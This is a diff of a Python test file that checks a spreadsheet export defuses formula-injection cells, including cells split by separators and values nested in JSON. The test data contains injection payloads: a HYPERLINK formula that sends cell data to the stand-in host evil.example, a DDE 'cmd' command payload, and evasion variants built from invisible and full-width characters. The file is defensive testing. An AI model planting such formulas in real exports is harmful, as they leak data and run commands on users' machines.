@@ -99,22 +99,34 @@ def test_an_entry_is_a_row() -> None:
     assert cells(entry(run=None))["run_id"] == ""
 
 
-@pytest.mark.parametrize(
-    "evil",
-    [
-        *('=HYPERLINK("http://evil.example?x="&A1,"Payroll")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"),
-        *("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"),
-    ],
-)
-def test_security_input_61_a_cell_that_is_a_formula_is_neutralised(evil: str) -> None:
-    """A spreadsheet shows it as text, with an apostrophe before it."""
-    assert cells(entry(tool=evil))["tool"] == f"'{evil}"
+EVIL = [
+    ('=HYPERLINK("http://evil.example?x="&A1,"Payroll")', """'=HYPERLINK("http://evil.example?x="&A1,"Payroll")"""),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    *[(text, f"'{text}") for text in ("-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(A1)")],
+    *[(f"{blank}=1+1", f"'{blank}'=1+1") for blank in "\t\r\n"],
+    *[(f"{unseen}=1", f"{unseen}'=1") for unseen in ("  ", "\u200b", "\ufeff \u2060", "\u3164", "\ufe0f", "\x00", '"')],
+    ('x;=HYPERLINK("http://evil.example")', """x;'=HYPERLINK("http://evil.example")"""),
+    *[(f"x{parts}=1", f"x{parts}'=1") for parts in (",", ", ", ";\u200b", "\t", "\n", "\r\n", ';"', "; \t")],
+    ("a;+1;b,@SUM(A1)\n-2", "a;'+1;b,'@SUM(A1)\n'-2"),
+]
+
+
+@pytest.mark.parametrize(("evil", "told"), EVIL)
+def test_security_input_61_a_cell_that_is_a_formula_is_neutralised(evil: str, told: str) -> None:
+    """A spreadsheet shows it as text, with an apostrophe before it, also where it parts cells in the middle of one. In
+    JSON each text is one for itself.
+    """
+    assert cells(entry(tool=evil))["tool"] == told
+    row = cells(entry(about={"texts": [evil], evil: -1, "n": [1, -2, None, True]}), {"ids": {"mail": evil}})
+    assert json.loads(row["details"]) == {"about": {"texts": [told], told: -1, "n": [1, -2, None, True]}}
+    assert json.loads(row["personal"]) == {"ids": {"mail": told}}
 
 
 def test_a_cell_that_is_no_formula_stays_as_it_is() -> None:
     """Also one with quotes, commas and lines."""
-    plain = 'He said "1 = 1", then\nleft'
-    assert cells(entry(tool=plain))["tool"] == plain
+    plain = 'He said "1 = 1", then\nleft; a@b.example has 2-3'
+    row = cells(entry(tool=plain, said=plain))
+    assert (row["tool"], json.loads(row["details"])) == (plain, {"said": plain})
     assert cells(entry()._replace(body="not JSON"))["details"] == ""
 
 
